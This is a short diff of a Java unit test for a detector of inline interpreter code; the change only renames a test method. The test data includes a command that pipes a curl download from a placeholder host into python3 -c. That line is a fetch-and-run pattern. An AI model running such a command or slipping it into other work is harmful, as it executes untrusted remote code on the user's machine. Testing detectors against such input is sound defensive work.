@@ -181,7 +181,7 @@ class InlineInterpreterCodeDetectorTest {
   }
 
   @Test
-  void a_download_that_is_run_is_told_as_that() {
+  void a_download_that_is_run_is_reported_as_that() {
     var subject = TestConfigs.words("python3", "-c", "$(curl -s https://x.test/i.py)");
 
     assertThat(detector.detect(subject)).isEmpty();
